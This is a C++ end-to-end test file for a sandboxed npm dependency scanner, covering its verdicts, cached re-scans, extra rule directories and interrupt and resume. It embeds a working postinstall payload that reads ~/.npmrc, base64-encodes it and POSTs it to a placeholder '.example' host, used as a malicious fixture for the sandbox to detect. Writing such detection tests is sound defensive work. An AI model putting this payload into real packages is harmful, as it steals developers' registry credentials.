// `vigil-cli scan` end to end with the real sandbox (privileged: root, or CI=true to fail instead of
// skip): the demo project's verdicts, a planted secret sent out judged critical with its evidence
// events, a second scan served from the store, extra rule directories judging stored
// fingerprints, an interrupted scan that stops its sandboxes promptly and resumes, and a registry
// project without a lockfile.
#include <gtest/gtest.h>

#include <cctype>
#include <chrono>
#include <csignal>
#include <fcntl.h>
#include <fstream>
#include <spawn.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

#include <nlohmann/json.hpp>

#include "engine/core/file_io.h"
#include "engine/store/store.h"
#include "tests/support/local_registry.h"
#include "tests/support/run_process.h"

namespace fs = std::filesystem;
using nlohmann::json;
using Clock = std::chrono::steady_clock;
using vigil::test::ProcessResult;
using vigil::test::runProcess;

extern char** environ;

namespace {

const std::string kCli = std::string(VIGIL_BINARY_DIR) + "/app/cli/vigil-cli";

class CliScanSandbox : public ::testing::Test {
protected:
    void SetUp() override {
        if (geteuid() != 0) {
            const char* ci = std::getenv("CI");
            if (ci != nullptr && std::string(ci) == "true")
                FAIL() << "the privileged scan tests must run as root in CI";
            GTEST_SKIP() << "not root and CI != true: vigil-cli scan needs the sandbox (run as root)";
        }
        home_ = fs::temp_directory_path() / ("vigil-scan-e2e-" + std::to_string(::getpid()) + "-" +
                                             ::testing::UnitTest::GetInstance()->current_test_info()->name());
        fs::remove_all(home_);
        fs::create_directories(home_);
    }
    void TearDown() override {
        if (!home_.empty())
            fs::remove_all(home_);
    }

    std::vector<std::string> argv(std::vector<std::string> args) {
        args.insert(args.begin(), kCli);
        for (const char* opt : {"--store", "--cache"}) {
            args.push_back(opt);
            args.push_back((home_ / (std::string(opt) == "--store" ? "vigil.db" : "cache")).string());
        }
        return args;
    }
    std::map<std::string, std::string> env() const {
        return {{"HOME", home_.string()}, {"PATH", "/usr/bin:/bin"}, {"CI", "true"}};
    }
    ProcessResult cli(std::vector<std::string> args) { return runProcess(argv(std::move(args)), env()); }

    static json readJson(const fs::path& file) {
        std::ifstream in(file);
        return json::parse(in);
    }
    static const json* package(const json& report, const std::string& name) {
        for (const auto& p : report["packages"])
            if (p["name"] == name)
                return &p;
        return nullptr;
    }

    /// A package tarball with the given install script, as npm pack lays it out.
    void makeTarball(const fs::path& dir, const std::string& name, const std::string& postinstall,
                     const std::map<std::string, std::string>& files = {}) {
        const fs::path src = home_ / "src" / name / "package";
        fs::create_directories(src);
        json manifest = {{"name", name}, {"version", "1.0.0"}, {"main", "index.js"}};
        if (!postinstall.empty())
            manifest["scripts"] = {{"postinstall", postinstall}};
        std::ofstream(src / "package.json") << manifest.dump();
        for (const auto& [file, text] : files)
            std::ofstream(src / file) << text;
        fs::create_directories(dir);
        auto tar = runProcess({"/bin/tar", "-czf", (dir / (name + "-1.0.0.tgz")).string(), "-C",
                               (home_ / "src" / name).string(), "package"},
                              {{"PATH", "/usr/bin:/bin"}});
        ASSERT_EQ(tar.exitCode, 0) << tar.err;
    }

    /// A project whose lockfile points at the tarballs in <project>/packages (made by makeTarball).
    void writeProject(const fs::path& project, const std::vector<std::string>& names) {
        json manifest = {{"name", "fixture-app"}, {"version", "1.0.0"}, {"dependencies", json::object()}};
        json lock = {{"name", "fixture-app"}, {"version", "1.0.0"}, {"lockfileVersion", 3}, {"requires", true}};
        lock["packages"][""] = {{"name", "fixture-app"}, {"version", "1.0.0"}};
        for (const std::string& name : names) {
            const std::string file = "file:packages/" + name + "-1.0.0.tgz";
            manifest["dependencies"][name] = file;
            lock["packages"][""]["dependencies"][name] = file;
            lock["packages"]["node_modules/" + name] = {{"version", "1.0.0"}, {"resolved", file}};
        }
        std::ofstream(project / "package.json") << manifest.dump(2);
        std::ofstream(project / "package-lock.json") << lock.dump(2);
    }

    fs::path home_;
};

const std::string kFixtureRules = std::string(VIGIL_SOURCE_DIR) + "/tests/fixtures/scan/rules";
const std::string kExtraRules = std::string(VIGIL_SOURCE_DIR) + "/tests/fixtures/scan/rules-extra";

// The npmrc thief: its postinstall reads the baited ~/.npmrc and posts it base64-encoded to a
// host under .example (the sandbox's network is the honeypot: nothing leaves the machine).
const char* kThief = R"(
const fs = require('fs'), os = require('os'), http = require('http'), dns = require('dns');
const data = Buffer.from(fs.readFileSync(os.homedir() + '/.npmrc')).toString('base64');
dns.lookup('beacon.collect.vigil-test.example', () => {
  const req = http.request({ host: 'collect.vigil-test.example', path: '/u', method: 'POST' }, (res) => res.resume());
  req.on('error', () => {});
  req.end(data);
});
)";

TEST_F(CliScanSandbox, ExfiltrationIsCriticalWithEvidenceAndTheBenignPackageIsClean) {
    const fs::path project = home_ / "project";
    makeTarball(project / "packages", "npmrc-thief", "node steal.js",
                {{"steal.js", kThief}, {"index.js", "module.exports = 1;\n"}});
    makeTarball(project / "packages", "plain-pad", "",
                {{"index.js", "module.exports = (s, n) => String(s).padStart(n);\n"}});
    writeProject(project, {"npmrc-thief", "plain-pad"});

    auto first = cli({"scan", project.string(), "--rules", kFixtureRules, "--format", "json", "--out",
                      (home_ / "first.json").string(), "--fail-on", "critical"});
    EXPECT_EQ(first.exitCode, 1) << "--fail-on critical with a critical finding\n" << first.err << first.out;
    const json cold = readJson(home_ / "first.json");
    ASSERT_EQ(cold["status"], "complete") << first.err;
    EXPECT_EQ(cold["totals"]["analysed"], 2);
    EXPECT_EQ(cold["totals"]["failed"], 0) << first.out;

    const json* thief = package(cold, "npmrc-thief");
    ASSERT_NE(thief, nullptr);
    EXPECT_EQ((*thief)["severity"], "critical") << thief->dump(1);
    const json* exfil = nullptr;
    for (const auto& f : (*thief)["findings"])
        if (f["rule_id"] == "honeytoken-exfiltration")
            exfil = &f;
    ASSERT_NE(exfil, nullptr) << (*thief)["findings"].dump(1);
    EXPECT_EQ((*exfil)["severity"], "critical");
    EXPECT_EQ((*exfil)["phases"], json::array({"install"}));
    std::string said = (*exfil)["evidence"].dump();
    for (char& c : said)
        c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    EXPECT_NE(said.find("npm_token"), std::string::npos) << (*exfil)["evidence"].dump(1);
    EXPECT_NE(said.find("base64"), std::string::npos) << (*exfil)["evidence"].dump(1);
    // Every evidence event is one of the package's own events, and one of them is the request.
    // A whole scan's JSON carries no events (they stay in the store); the package's own report does.
    EXPECT_TRUE((*thief)["events"].empty());
    const std::string thiefKey = "npmrc-thief@" + (*thief)["version"].get<std::string>();
    auto single = cli({"report", std::to_string(cold["scan_id"].get<std::int64_t>()), "--package", thiefKey, "--format",
                       "json", "--out", (home_ / "thief.json").string()});
    ASSERT_EQ(single.exitCode, 0) << single.err;
    const json thiefEvents = (*package(readJson(home_ / "thief.json"), "npmrc-thief"))["events"];
    ASSERT_FALSE((*exfil)["events"].empty());
    bool sawRequest = false;
    for (const auto& ref : (*exfil)["events"]) {
        const json* event = nullptr;
        for (const auto& e : thiefEvents)
            if (e["phase"] == ref["phase"] && e["seq"] == ref["seq"])
                event = &e;
        ASSERT_NE(event, nullptr) << "evidence " << ref.dump() << " is not among the package's events";
        sawRequest = sawRequest || (*event)["kind"] == "network.http";
    }
    EXPECT_TRUE(sawRequest) << (*exfil)["events"].dump(1);
    EXPECT_GT((*thief)["score"].get<int>(), 89);

    const json* plain = package(cold, "plain-pad");
    ASSERT_NE(plain, nullptr);
    EXPECT_TRUE((*plain)["findings"].empty()) << (*plain)["findings"].dump(1);
    EXPECT_EQ((*plain)["severity"], "info");
    EXPECT_EQ((*plain)["score"], 0);

    // Second scan: served from the store, the rules judge the stored fingerprints again.
    auto second = cli({"scan", project.string(), "--rules", kFixtureRules, "--format", "json", "--out",
                       (home_ / "second.json").string()});
    ASSERT_EQ(second.exitCode, 0) << second.err;
    const json warm = readJson(home_ / "second.json");
    EXPECT_EQ(warm["totals"]["analysed"], 0);
    EXPECT_EQ(warm["totals"]["cached"], 2);
    EXPECT_EQ(warm["findings_by_severity"], cold["findings_by_severity"]);
    ASSERT_NE(package(warm, "npmrc-thief"), nullptr);
    EXPECT_EQ((*package(warm, "npmrc-thief"))["findings"].size(), (*thief)["findings"].size());

    // An extra rule directory: its rule fires on the stored fingerprint without a new run.
    auto third = cli({"scan", project.string(), "--rules", kFixtureRules, "--rules", kExtraRules, "--format",
                      "json", "--out", (home_ / "third.json").string()});
    ASSERT_EQ(third.exitCode, 0) << third.err;
    const json extra = readJson(home_ / "third.json");
    EXPECT_EQ(extra["totals"]["analysed"], 0) << "new rules do not re-run packages";
    bool fired = false;
    for (const auto& f : (*package(extra, "npmrc-thief"))["findings"])
        fired = fired || f["rule_id"] == "fixture-npmrc-read";
    EXPECT_TRUE(fired) << (*package(extra, "npmrc-thief"))["findings"].dump(1);
    EXPECT_TRUE((*package(extra, "plain-pad"))["findings"].empty());
}

TEST_F(CliScanSandbox, DemoProjectYieldsItsVerdictsAndTheSecondScanComesFromTheStore) {
    const std::string demo = std::string(VIGIL_SOURCE_DIR) + "/examples/demo";
    const auto t0 = Clock::now();
    // The fixture rules stand in for the shipped ones (same ids) until those land.
    auto first = cli({"scan", demo, "--rules", kFixtureRules, "--format", "json", "--out", (home_ / "first.json").string()});
    const auto coldTime = Clock::now() - t0;
    ASSERT_EQ(first.exitCode, 0) << first.err << first.out;
    const json cold = readJson(home_ / "first.json");
    EXPECT_EQ(cold["status"], "complete");
    EXPECT_EQ(cold["totals"]["packages"], 6);
    EXPECT_EQ(cold["totals"]["analysed"], 6);
    EXPECT_EQ(cold["totals"]["failed"], 0) << first.out;
    // The install-time env theft and the import-time fetch hook are at least high. The
    // download-and-run stops at curl (its HTTPS download is not answered with a stub), so
    // fast-setup shows a downloader contacting a host at install: at least medium.
    for (const char* harmful : {"env-inspector", "fetch-guard"}) {
        const json* p = package(cold, harmful);
        ASSERT_NE(p, nullptr) << harmful;
        EXPECT_TRUE((*p)["severity"] == "high" || (*p)["severity"] == "critical") << harmful << " " << (*p).dump();
    }
    {
        const json* p = package(cold, "fast-setup");
        ASSERT_NE(p, nullptr);
        EXPECT_TRUE((*p)["severity"] == "medium" || (*p)["severity"] == "high" || (*p)["severity"] == "critical")
            << (*p)["findings"].dump(1);
        bool downloader = false;
        for (const auto& f : (*p)["findings"])
            downloader = downloader || f["rule_id"] == "install-downloader";
        EXPECT_TRUE(downloader) << (*p)["findings"].dump(1);
    }
    for (const char* benign : {"tiny-pad", "tiny-colors", "date-stamp"}) {
        const json* p = package(cold, benign);
        ASSERT_NE(p, nullptr) << benign;
        EXPECT_EQ((*p)["severity"], "info") << (*p).dump();
        EXPECT_TRUE((*p)["findings"].empty()) << (*p).dump();
    }
    EXPECT_NE(first.out.find("Scanned 6 dependencies — analysed 6 (0 cached)"), std::string::npos) << first.out;
    // Each package's category is inferred from its package.json, reported, and kept in the store
    // for the norms.
    EXPECT_EQ((*package(cold, "tiny-pad"))["category"], "string");
    EXPECT_EQ((*package(cold, "tiny-colors"))["category"], "color-terminal");
    auto category = cli({"query", "category", "tiny-colors", "--json"});
    ASSERT_EQ(category.exitCode, 0) << category.err;
    EXPECT_EQ(json::parse(category.out)["recorded_category"], "color-terminal") << category.out;

    const auto t1 = Clock::now();
    auto second = cli({"scan", demo, "--rules", kFixtureRules, "--format", "json", "--out",
                       (home_ / "second.json").string(), "--fail-on", "high"});
    const auto warmTime = Clock::now() - t1;
    EXPECT_EQ(second.exitCode, 1) << "--fail-on high with high findings";
    const json warm = readJson(home_ / "second.json");
    EXPECT_EQ(warm["totals"]["analysed"], 0);
    EXPECT_EQ(warm["totals"]["cached"], 6);
    EXPECT_EQ(warm["findings_by_severity"], cold["findings_by_severity"]);
    EXPECT_EQ(warm["comparison"]["previous_scan_id"], cold["scan_id"]);
    EXPECT_TRUE(warm["comparison"]["new_findings"].empty());
    EXPECT_LT(warmTime * 2, coldTime) << "warm " << std::chrono::duration<double>(warmTime).count() << " s, cold "
                                      << std::chrono::duration<double>(coldTime).count() << " s";
    EXPECT_LT(warmTime, std::chrono::seconds(2));

    // The warm scan's HTML report shows the cached packages' events, read from the store.
    auto html = cli({"scan", demo, "--rules", kFixtureRules, "--format", "html", "--out", (home_ / "warm.html").string()});
    ASSERT_EQ(html.exitCode, 0) << html.err;
    const std::string page = vigil::engine::readWholeFile(home_ / "warm.html").value();
    const auto inspector = page.find("<h2>env-inspector@");
    ASSERT_NE(inspector, std::string::npos);
    const auto section = page.substr(inspector, page.find("</section>", inspector) - inspector);
    EXPECT_NE(section.find("served from the store"), std::string::npos);
    EXPECT_NE(section.find("recorded events</summary>"), std::string::npos) << section.substr(0, 2000);
    EXPECT_EQ(section.find("not part of this report"), std::string::npos);
}

TEST_F(CliScanSandbox, InterruptStopsRunningSandboxesPromptlyAndTheRerunResumes) {
    const fs::path project = home_ / "project";
    for (const char* quick : {"pkg-a", "pkg-b", "pkg-c"})
        makeTarball(project / "packages", quick, "sleep 0.2");
    makeTarball(project / "packages", "pkg-z", "sleep 8");
    json manifest = {{"name", "slow"}, {"version", "1.0.0"}, {"dependencies", json::object()}};
    json lock = {{"name", "slow"}, {"version", "1.0.0"}, {"lockfileVersion", 3}, {"requires", true}};
    lock["packages"][""] = {{"name", "slow"}, {"version", "1.0.0"}};
    for (const char* name : {"pkg-a", "pkg-b", "pkg-c", "pkg-z"}) {
        const std::string file = std::string("file:packages/") + name + "-1.0.0.tgz";
        manifest["dependencies"][name] = file;
        lock["packages"][""]["dependencies"][name] = file;
        lock["packages"][std::string("node_modules/") + name] = {
            {"version", "1.0.0"}, {"resolved", file}, {"hasInstallScript", true}};
    }
    std::ofstream(project / "package.json") << manifest.dump(2);
    std::ofstream(project / "package-lock.json") << lock.dump(2);

    // Start the scan in the background; interrupt it once the quick three are stored.
    auto args = argv({"scan", project.string(), "--jobs", "4", "--phases", "install"});
    std::vector<char*> cargv;
    for (auto& a : args)
        cargv.push_back(a.data());
    cargv.push_back(nullptr);
    std::vector<std::string> envStrings;
    for (const auto& [k, v] : env())
        envStrings.push_back(k + "=" + v);
    std::vector<char*> cenv;
    for (auto& e : envStrings)
        cenv.push_back(e.data());
    cenv.push_back(nullptr);
    posix_spawn_file_actions_t actions;
    posix_spawn_file_actions_init(&actions);
    posix_spawn_file_actions_addopen(&actions, 1, (home_ / "out.txt").c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
    posix_spawn_file_actions_addopen(&actions, 2, (home_ / "err.txt").c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
    pid_t pid = -1;
    ASSERT_EQ(posix_spawn(&pid, kCli.c_str(), &actions, nullptr, cargv.data(), cenv.data()), 0);
    posix_spawn_file_actions_destroy(&actions);

    auto storedCount = [&] {
        auto db = vigil::engine::store::Store::open(home_ / "vigil.db");
        if (!db)
            return 0;
        int n = 0;
        for (const char* name : {"pkg-a", "pkg-b", "pkg-c", "pkg-z"}) {
            auto fp = db->fingerprintOf("npm", name, "1.0.0");
            n += fp.ok() && fp->has_value();
        }
        return n;
    };
    const auto deadline = Clock::now() + std::chrono::seconds(30);
    while (storedCount() < 3 && Clock::now() < deadline)
        std::this_thread::sleep_for(std::chrono::milliseconds(50));
    ASSERT_EQ(storedCount(), 3) << "pkg-z (sleep 8) must still be running";
    const auto interrupted = Clock::now();
    kill(pid, SIGINT);
    int status = 0;
    waitpid(pid, &status, 0);
    const auto stopTime = Clock::now() - interrupted;
    std::ifstream outFile(home_ / "out.txt");
    const std::string out((std::istreambuf_iterator<char>(outFile)), {});
    ASSERT_TRUE(WIFEXITED(status));
    EXPECT_EQ(WEXITSTATUS(status), 130) << out;
    EXPECT_LT(stopTime, std::chrono::seconds(4)) << "the running sandbox must be stopped, not waited for";
    EXPECT_NE(out.find("Scan cancelled"), std::string::npos) << out;
    EXPECT_EQ(storedCount(), 3);

    auto rerun = cli({"scan", project.string(), "--jobs", "4", "--phases", "install", "--format", "json"});
    ASSERT_EQ(rerun.exitCode, 0) << rerun.err;
    const json resumed = json::parse(rerun.out);
    EXPECT_EQ(resumed["totals"]["analysed"], 1) << "only pkg-z is left";
    EXPECT_EQ(resumed["totals"]["cached"], 3);
    EXPECT_EQ(storedCount(), 4);
}

TEST_F(CliScanSandbox, RegistryProjectWithoutALockfile) {
    VIGIL_REQUIRE_LOCAL_REGISTRY();
    auto& registry = vigil::test::LocalRegistry::shared();
    const fs::path project = home_ / "app";
    fs::create_directories(project);
    std::ofstream(project / "package.json") << R"({"name":"app","version":"1.0.0",
        "dependencies":{"vigil-fixture-a":"^1.0.0","vigil-fixture-scripts":"^1.0.0"}})";
    auto r = cli({"scan", project.string(), "--registry", registry.url(), "--format", "json"});
    ASSERT_EQ(r.exitCode, 0) << r.err << r.out;
    const json report = json::parse(r.out);
    EXPECT_EQ(report["status"], "complete");
    EXPECT_GE(report["totals"]["packages"].get<int>(), 3);  // a, its b, scripts
    EXPECT_EQ(report["totals"]["analysed"], report["totals"]["packages"]);
    EXPECT_EQ(report["totals"]["failed"], 0) << r.out;
    ASSERT_NE(package(report, "vigil-fixture-scripts"), nullptr);
    ASSERT_NE(package(report, "vigil-fixture-b"), nullptr) << "a transitive dependency from the registry";
    EXPECT_EQ((*package(report, "vigil-fixture-b"))["paths"][0],
              json::array({"vigil-fixture-a@1.1.0", "vigil-fixture-b@1.2.0"}));
}

}  // namespace
